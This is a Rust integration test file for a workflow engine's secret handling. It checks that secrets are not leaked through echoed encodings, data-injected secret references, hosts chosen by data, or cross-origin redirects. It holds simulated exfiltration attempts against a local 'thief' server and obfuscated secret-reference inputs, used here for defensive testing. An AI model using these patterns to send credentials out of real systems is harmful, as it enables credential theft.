//! Secrets that come back: a called server, a tool's server and a model answer with what they were sent, as the
//! libraries of five languages spell it. Nothing that is kept or shown has it. And nobody but the definition says which
//! secret goes where.

use super::{
    bus::{collector, listen},
    target::Target,
};
use crate::harness::{Reply, Upstream, root};
use axum::{
    Router,
    extract::Path,
    http::{HeaderValue, StatusCode},
    response::{IntoResponse, Response},
    routing::any,
};
use base64::{Engine, prelude::BASE64_STANDARD};
use serde::Deserialize;
use serde_json::{Value, json};
use std::{sync::Arc, time::Duration};

/// What no scrubber can know without reading every answer in every code there is.
const HOPELESS: [&str; 8] = [
    "utf-16le",
    "utf-16be",
    "UTF-16",
    "base64 of base64",
    "base64.b32encode",
    "hex.Dump",
    "JSON.stringify three times",
    "html.escape twice",
];

/// A secret and how it is spelled.
#[derive(Deserialize)]
struct Spelled {
    secret: String,
    /// Language, library, base64.
    encodings: Vec<(String, String, String)>,
}

/// One spelling.
#[derive(Clone)]
struct Spelling {
    name: String,
    bytes: Vec<u8>,
}

fn spelled() -> Vec<(String, Vec<Spelling>)> {
    let text = std::fs::read_to_string(root().join("tests/fixtures/encodings/encodings.json"))
        .expect("the spellings");
    let all: Vec<Spelled> = serde_json::from_str(&text).expect("JSON");
    all.into_iter()
        .map(|one| {
            let spellings = one.encodings.into_iter().map(|(language, library, value)| Spelling {
                name: format!("{language}: {library}"),
                bytes: BASE64_STANDARD.decode(value).expect("base64"),
            });
            (
                one.secret,
                spellings
                    .filter(|s| !HOPELESS.iter().any(|hopeless| s.name.ends_with(&format!(": {hopeless}"))))
                    .collect(),
            )
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_that_comes_back_in_any_usual_spelling_is_kept_and_shown_nowhere() {
    let [(secret, spellings), (key, keys)]: [_; 2] = spelled().try_into().ok().expect("two secrets");
    assert!(spellings.len() >= 60, "{} spellings", spellings.len());
    let echo = Echo::start(&spellings).await;
    let (endpoint, traced) = collector().await;
    let mut target = Target::with()
        .env("CALLBOARD_SECRET_tok", &secret)
        .env("OPENAI_API_KEY", &key)
        .env("CALLBOARD__HTTP__ALLOW", echo.clone())
        .env("OTEL_EXPORTER_OTLP_ENDPOINT", endpoint)
        .env("RUST_LOG", "trace")
        .start()
        .await;
    let heard = listen(target.dev.dapr_grpc(), "callboard.events").await;
    // The model answers with its key, and with the secret of the run that asks.
    let said: Vec<_> = keys.iter().chain(&spellings).cloned().collect();
    let says = said.clone();
    target.model.script().answer(
        |_| true,
        move |request| {
            let n = request
                .prompt()
                .split_once("spell ")
                .and_then(|(_, n)| n.split(' ').next()?.parse::<usize>().ok())
                .unwrap_or(0);
            Reply::text(format!("it is {} I think", String::from_utf8_lossy(&says[n].bytes)))
        },
    );

    let run = target.begin(&definition(&echo, spellings.len(), said.len()), json!({})).await;
    let seen = target.api.until(&run, "completed").await;
    let steps = target.api.steps(&run).await;
    let shown = [
        ("the run", seen.to_string().into_bytes()),
        ("its steps", json!(steps).to_string().into_bytes()),
        ("its history", json!(target.api.history(&run).await).to_string().into_bytes()),
        (
            "metrics",
            target
                .api
                .client
                .get(format!("{}/metrics", target.api.url))
                .send()
                .await
                .expect("metrics")
                .bytes()
                .await
                .expect("a body")
                .to_vec(),
        ),
    ];
    target.dev.stop().await;
    let mut places: Vec<(String, Vec<u8>)> =
        shown.into_iter().map(|(name, bytes)| (name.to_owned(), bytes)).collect();
    places.push(("the log".to_owned(), target.dev.process.log().into_bytes()));
    places.push(("the bus".to_owned(), heard.bytes()));
    places.push(("traces".to_owned(), traced.bytes()));
    places.extend(target.stored());
    assert!(heard.bytes().len() > 1000 && traced.bytes().len() > 1000, "INVALID: nothing was overheard");
    let failed = steps.iter().filter(|step| step["node"] != "fail" && !step["error"].is_null()).count();
    assert_eq!(
        failed,
        0,
        "INVALID: every answer is to be taken: {:#?}",
        steps.iter().find(|step| step["node"] != "fail" && !step["error"].is_null())
    );

    let mut found = std::collections::BTreeMap::<String, Vec<String>>::new();
    for spelling in spellings.iter().chain(&keys) {
        for needle in needles(&spelling.bytes) {
            for (place, bytes) in &places {
                if contains(bytes, &needle) {
                    let place = place.rsplit('/').next().unwrap_or_default().to_owned();
                    let places = found.entry(spelling.name.clone()).or_default();
                    if !places.contains(&place) {
                        places.push(place);
                    }
                }
            }
        }
    }
    eprintln!("{} of {} spellings found", found.len(), spellings.len() + keys.len());
    assert!(found.is_empty(), "{} spellings were found: {found:#?}", found.len());
}

/// How a spelling stands where it is found: as it is, as text, and as a text within JSON, or within JSON in JSON.
fn needles(bytes: &[u8]) -> Vec<Vec<u8>> {
    let text = String::from_utf8_lossy(bytes).into_owned();
    let quoted = |text: &str| {
        let json = json!(text).to_string();
        json[1..json.len() - 1].to_owned()
    };
    let once = quoted(&text);
    let twice = quoted(&once);
    let mut all = vec![bytes.to_vec(), text.into_bytes(), once.into_bytes(), twice.into_bytes()];
    all.sort();
    all.dedup();
    all
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    let Some(first) = needle.first() else { return false };
    let mut at = 0;
    while let Some(next) = hay[at..].iter().position(|byte| byte == first) {
        at += next;
        if hay[at..].starts_with(needle) {
            return true;
        }
        at += 1;
    }
    false
}

/// Sends the secret once; then asks for every spelling in every way, in steps that name no secret.
fn definition(echo: &str, spellings: usize, said: usize) -> Value {
    let get = |id: &str| {
        json!({"id": id, "type": "http", "retry": {"max_retries": 0}, "on_error": {"default": "failed"},
        "config": {"url": format!("http://{echo}/{id}/{{{{ item }}}}")}})
    };
    let each = json!({"id": "each", "type": "for_each", "config": {"items": format!("range({spellings}) | list"), "parallel": 16,
        "body": {"nodes": [get("text"), get("json"), get("header"), get("fail"), get("latin")],
            "output": ["{{ steps.text.output }}", "{{ steps.json.output }}", "{{ steps.header.output }}"]}}});
    let ask = json!({"id": "ask", "type": "agent", "config": {"agent": "once", "prompt": "spell {{ item }} please"}});
    let model = json!({"id": "model", "type": "for_each", "config": {"items": format!("range({said}) | list"), "parallel": 16,
        "body": {"nodes": [ask], "output": "{{ steps.ask.output }}"}}});
    let send = json!({"id": "send", "type": "http", "config": {"method": "POST", "url": format!("http://{echo}/kept/0"), "body": {"token": "secret://tok"}}});
    json!({"name": "spellings", "nodes": [send, each, model], "edges": [{"source": "send", "target": "each"}, {"source": "send", "target": "model"}]})
}

/// A server that answers with a spelling: in a text, in JSON, in a header, in an error, in bytes that are no UTF-8.
struct Echo;

impl Echo {
    async fn start(spellings: &[Spelling]) -> String {
        let spellings = Arc::new(spellings.to_vec());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let addr = listener.local_addr().expect("an address").to_string();
        let answer = move |Path((way, n)): Path<(String, usize)>| {
            let bytes = spellings[n.min(spellings.len() - 1)].bytes.clone();
            std::future::ready(respond(&way, &bytes))
        };
        tokio::spawn(
            async move { axum::serve(listener, Router::new().route("/{way}/{n}", any(answer))).await },
        );
        addr
    }
}

fn respond(way: &str, bytes: &[u8]) -> Response {
    let around = [b"you sent ".as_slice(), bytes, b" to us"].concat();
    match way {
        "kept" => "thanks".into_response(),
        "json" => axum::Json(
            json!({"sent": String::from_utf8_lossy(bytes), "list": [{String::from_utf8_lossy(bytes): 1}]}),
        )
        .into_response(),
        "header" => {
            let mut response = "see the header".into_response();
            if let Ok(value) = HeaderValue::from_bytes(bytes) {
                response.headers_mut().insert("x-sent", value.clone());
                response.headers_mut().insert("set-cookie", value);
            }
            response
        }
        "fail" => (StatusCode::BAD_REQUEST, around).into_response(),
        "latin" => ([("content-type", "text/plain; charset=iso-8859-1")], around).into_response(),
        _ => ([("content-type", "text/plain")], around).into_response(),
    }
}

const TOKEN: &str = "t0ken-of-the-shop-xyz";

async fn shop() -> Target {
    let agents = json!({"looker": {"model": "test", "tools": ["keep"], "retry_policy": {"max_retries": 0}}});
    let target = Target::with().agents(agents).tools(|upstream| {
        let parameters = json!({"type": "object", "properties": {"note": {"type": "string"}}});
        json!({"keep": {"description": "Keeps.", "parameters": parameters, "type": "http", "config": {"method": "POST", "url": format!("{upstream}/tool"),
            "headers": {"authorization": "Bearer secret://tok"}, "query": {"q": "{{ args.note }}"}, "body": {"note": "{{ args.note }}"}}}})
    });
    target.env("CALLBOARD_SECRET_tok", TOKEN).env("CALLBOARD_SECRET_other", "other-secret-abc").start().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn data_names_no_secret_wherever_it_comes_from() {
    let target = shop().await;
    let keep = json!({"id": "keep", "type": "http", "config": {"method": "POST", "url": format!("{}/keep?x={{{{ input.note }}}}", target.http.url()),
        "headers": {"authorization": "Bearer secret://tok", "x-note": "{{ input.note }}"}, "query": {"q": "{{ input.note }}"},
        "body": {"note": "{{ input.note }}", "again": "a {{ input.note }} b", "deep": "{{ input }}", "parts": "{{ input.scheme }}{{ input.rest }}", "joined": "secret{{ input.rest2 }}"}}});
    for note in [
        "secret://tok",
        "secret://other",
        "x secret://tok y",
        "SECRET://tok",
        "secret:/\u{2f}tok",
        "sec\u{200b}ret://tok",
        "secret://tok secret://tok",
        "{{ 'secret://tok' }}",
    ] {
        let input = json!({"note": note, "scheme": "secret:", "rest": "//tok", "rest2": "://tok"});
        let run = target.begin(&json!({"name": "keep", "nodes": [keep]}), input).await;
        eventually_ended(&target, &run).await;
    }
    // A value that the model chose, and one that a server answered with.
    target
        .model
        .script()
        .then([Reply::tool("keep", json!({"note": "secret://tok"})), Reply::text("secret://tok")]);
    let ask = json!({"id": "ask", "type": "agent", "config": {"agent": "looker", "prompt": "keep it"}});
    let pass = json!({"id": "pass", "type": "http", "config": {"method": "POST", "url": format!("{}/keep", target.http.url()),
        "headers": {"authorization": "Bearer secret://tok"}, "body": "{{ steps.ask.output }} {{ steps.ask.output }}"}});
    let edges = json!([{"source": "ask", "target": "pass"}]);
    let run = target.begin(&json!({"name": "pass", "nodes": [ask, pass], "edges": edges}), json!({})).await;
    eventually_ended(&target, &run).await;
    let mut wrong = Vec::new();
    let requests = target.upstream().requests();
    assert!(requests.len() >= 9, "INVALID: {} requests", requests.len());
    for request in requests {
        let body = String::from_utf8_lossy(&request.body).into_owned();
        let note = request.header("x-note").unwrap_or_default().to_owned();
        for value in [TOKEN, "other-secret-abc"] {
            if request.target.contains(value) || body.contains(value) || note.contains(value) {
                wrong.push(format!("{} {} {body}", request.method, request.target));
            }
        }
        assert_eq!(
            request.header("authorization"),
            Some(&*format!("Bearer {TOKEN}")),
            "the definition's own is replaced"
        );
    }
    assert!(wrong.is_empty(), "a name in data was replaced by its value: {wrong:#?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_goes_to_no_host_that_data_chooses() {
    let target = shop().await;
    let thief = Upstream::start().await;
    let mut wrong = Vec::new();
    for url in [
        "{{ input.u }}/store",
        "http://{{ input.host }}/store",
        "{{ input.u }}",
        "http://{{ input.host }}:{{ input.port }}/",
        "{% if true %}{{ input.u }}{% endif %}/x",
    ] {
        let steal = json!({"id": "steal", "type": "http", "config": {"url": url, "headers": {"authorization": "Bearer secret://tok"}}, "retry": {"max_retries": 0}});
        let input = json!({"u": thief.url(), "host": thief.addr().to_string(), "port": 1});
        let body = json!({"definition": {"name": "steal", "nodes": [steal]}, "input": input});
        let (status, answer) = target.api.request("POST", "/runs", Some(body)).await;
        if status != 422 {
            wrong.push(format!("{url} was taken: {status}"));
            if let Some(run) = answer["run_id"].as_str() {
                eventually_ended(&target, run).await;
            }
        }
    }
    let stolen =
        thief.script.requests().iter().filter(|request| request.header("authorization").is_some()).count();
    assert!(wrong.is_empty() && stolen == 0, "{stolen} went out; {wrong:#?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_that_says_its_hosts_goes_to_no_other() {
    let thief = Upstream::start().await;
    let good = Upstream::start().await;
    let target = Target::with()
        .env("CALLBOARD_SECRET_tok", TOKEN)
        .settings("[secrets.hosts]\ntok = [\"shop.example\"]\n")
        .env("CALLBOARD__HTTP__ALLOW", format!("{},{}", thief.addr(), good.addr()))
        .start()
        .await;
    let send = json!({"id": "send", "type": "http", "config": {"url": format!("{}/x", thief.url()), "headers": {"authorization": "Bearer secret://tok"}}, "retry": {"max_retries": 0}});
    let body = json!({"definition": {"name": "send", "nodes": [send]}, "input": {}});
    let (status, answer) = target.api.request("POST", "/runs", Some(body)).await;
    if let (200, Some(run)) = (status, answer["run_id"].as_str()) {
        let ended = eventually_ended(&target, run).await;
        assert_eq!(ended["status"], "failed", "{ended:#}");
    }
    assert_eq!(thief.script.calls(), 0, "it was sent to another host");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_redirect_carries_nothing_of_ours_to_another_origin() {
    let thief = Upstream::start().await;
    let to = format!("{}/stolen", thief.url());
    let redirecting = Router::new().fallback(move || {
        let to = to.clone();
        async move { (StatusCode::TEMPORARY_REDIRECT, [("location", to)]) }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let addr = listener.local_addr().expect("an address");
    tokio::spawn(async move { axum::serve(listener, redirecting).await });
    let target = Target::with()
        .env("CALLBOARD_SECRET_tok", TOKEN)
        .env("CALLBOARD__HTTP__ALLOW", format!("{addr},{}", thief.addr()))
        .start()
        .await;
    let post = json!({"id": "post", "type": "http", "retry": {"max_retries": 0}, "config": {"method": "POST", "url": format!("http://{addr}/x"),
        "headers": {"x-api-key": "literal-credential", "authorization": "Basic bGl0ZXJhbDpjcmVk", "cookie": "session=literal", "x-token": "secret://tok"}, "body": {"a": 1}}});
    let run = target.begin(&json!({"name": "post", "nodes": [post]}), json!({})).await;
    eventually_ended(&target, &run).await;
    let get = json!({"id": "get", "type": "http", "retry": {"max_retries": 0}, "config": {"url": format!("http://{addr}/x"),
        "headers": {"x-api-key": "literal-credential", "authorization": "Basic bGl0ZXJhbDpjcmVk", "cookie": "session=literal", "accept": "text/plain"}}});
    let run = target.begin(&json!({"name": "get", "nodes": [get]}), json!({})).await;
    eventually_ended(&target, &run).await;
    let mut wrong = Vec::new();
    for request in thief.script.requests() {
        for name in ["x-api-key", "authorization", "cookie", "x-token", "idempotency-key", "traceparent"] {
            if let Some(value) = request.header(name) {
                wrong.push(format!("{} {name}: {value}", request.method));
            }
        }
    }
    assert!(wrong.is_empty(), "the other origin got {wrong:#?}");
}

async fn eventually_ended(target: &Target, run: &str) -> Value {
    crate::harness::eventually(Duration::from_secs(20), || async {
        let run = target.api.get(&format!("/runs/{run}")).await;
        crate::harness::when(run, |run| ["completed", "failed"].iter().any(|status| run["status"] == *status))
    })
    .await
}
